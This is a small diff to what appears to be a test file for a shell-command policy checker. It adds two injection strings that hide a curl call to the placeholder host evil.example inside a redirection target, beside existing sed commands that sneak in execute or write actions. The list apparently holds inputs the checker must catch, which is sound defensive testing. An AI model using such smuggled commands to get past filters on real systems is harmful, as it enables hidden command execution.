@@ -46,6 +46,8 @@ RULE = PolicyRule(
 )
 
 RUN_SOMETHING = [
+    "echo x >&'a$(curl http://evil.example)'",
+    "echo x 1>&'a`curl http://evil.example`'",
     "sed -n 't\neid' a.txt",
     "sed -n 'b\nwout' a.txt",
     "sed -n 'a\\\n\nwout' a.txt",
